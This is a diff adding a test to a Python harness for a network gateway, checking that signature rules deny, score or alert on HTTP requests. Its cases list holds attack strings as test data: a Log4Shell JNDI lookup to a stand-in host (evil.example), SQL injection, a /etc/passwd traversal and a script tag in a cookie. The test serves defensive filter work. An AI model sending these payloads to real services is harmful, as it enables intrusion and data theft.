@@ -1368,6 +1368,71 @@ def identity_rotation(zt, args):
             'key revoked': sports({revoked: None, valid: None, keyed: 'revoked'})}, live.log)
 
 
+# ---- signatures: request fields against Hyperscan rules ------------------------------------
+
+SIGNATURE_POLICY = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'signatures', 'policy.conf')
+
+
+def request_with(method, target, headers=()):
+    head = '%s %s HTTP/1.1\r\nHost: api.example\r\n' % (method, target)
+    for name, value in headers:
+        head += '%s: %s\r\n' % (name, value)
+    return head.encode() + b'\r\n'
+
+
+@case('signatures-request')
+def signatures_request(zt, args):
+    """Each request on its own connection against tests/pipeline/signatures/pipeline.rules: a block
+    rule in a header, in an argument, in a named header and in a cookie; two scored rules that reach
+    the threshold together and one that stays below it; an alert rule that only reports; a monitor
+    rule and a monitor route that report what they would block; a route selecting no set; benign
+    requests. Each event lists the rule ids and the score."""
+    cases = [  # sport, request, expected (action, reason, rules, score) or None for no event
+        (42000, request_with('GET', '/api/v1/search?q=shoes&page=2'), None),
+        (42001, request_with('GET', '/api/v1/search', [('X-Api-Version', '${jndi:ldap://evil.example/a}')]),
+         ('deny', 'signature', [900001], 0)),
+        (42002, request_with('GET', '/api/v1/search?q=%24%7Bjndi%3Adns%3A%2F%2Fx%7D'), ('deny', 'signature', [900001], 0)),
+        (42003, request_with('GET', '/api/v1/search?q=1%27%20UNION%20ALL%20SELECT%20pass%20--'),
+         ('deny', 'anomaly_score', [900002, 900003], 5)),
+        (42004, request_with('GET', '/api/v1/search?q=1%20union%20select%201'), None),   # score 3 < 5: passes
+        (42005, request_with('GET', '/api/v1/search', [('X-Original-URL', '/admin/../../etc/passwd')]),
+         ('deny', 'signature', [900004], 0)),
+        (42006, request_with('GET', '/api/v1/search', [('X-Forwarded-For', '../')]), None),   # not that header
+        (42007, request_with('GET', '/api/v1/search', [('User-Agent', 'sqlmap/1.7')]),
+         ('pass', 'signature_alert', [900005], 0)),
+        (42008, request_with('GET', '/api/v1/search', [('Cookie', 'a=1; b=<SCRIPT>x')]), ('deny', 'signature', [900006], 0)),
+        (42009, request_with('GET', '/api/v1/items/a%7Cb'), ('pass', 'signature_alert', [900007], 0)),
+        (42010, request_with('GET', '/api/v1/items/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'),
+         ('pass', 'signature_alert', [900001], 0)),
+        (42011, request_with('GET', '/plain?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'), None),
+        (42012, request_with('GET', "/api/v1/search?q=O%27Brien%27s%20union%20of%20selected%20items"), None),
+    ]
+    packets = []
+    for sport, raw, _ in cases:
+        packets += one_request(*V4, raw, sport)
+    r = zt.run(packets, '--policy', SIGNATURE_POLICY)
+    events = policy_events(r)
+    for sport, raw, want in cases:
+        e = events.get(sport)
+        if want is None:
+            if e is not None:
+                r.fail('%r: expected no event, got %s' % (raw, e))
+            continue
+        action, reason, rules, score = want
+        got = (e['action'], e['reason'], sorted(e.get('rules', [])), e.get('score')) if e else None
+        if got != (action, reason, sorted(rules), score):
+            r.fail('%r: expected %s, got %s' % (raw, want, e))
+        elif e['service'] != 'orders-api' or e['route'] not in ('search', 'items'):
+            r.fail('%r: event places the request wrongly: %s' % (raw, e))
+    denied = sum(1 for _, _, w in cases if w and w[0] == 'deny')
+    alerts = sum(1 for _, _, w in cases if w and w[0] == 'pass')
+    r.expect_totals(policy_denied=denied, signature_blocked=denied, signature_alerts=alerts, verdicts_deny=denied)
+    forwarded_payloads = [bytes(tcp_of(f).payload) for f in r.forwarded if tcp_of(f).payload]
+    for sport, raw, want in cases:
+        if (want is None or want[0] == 'pass') != (raw in forwarded_payloads):
+            r.fail('%r: forwarded %s, expected %s' % (raw, raw in forwarded_payloads, want is None or want[0] == 'pass'))
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument('ztgate')
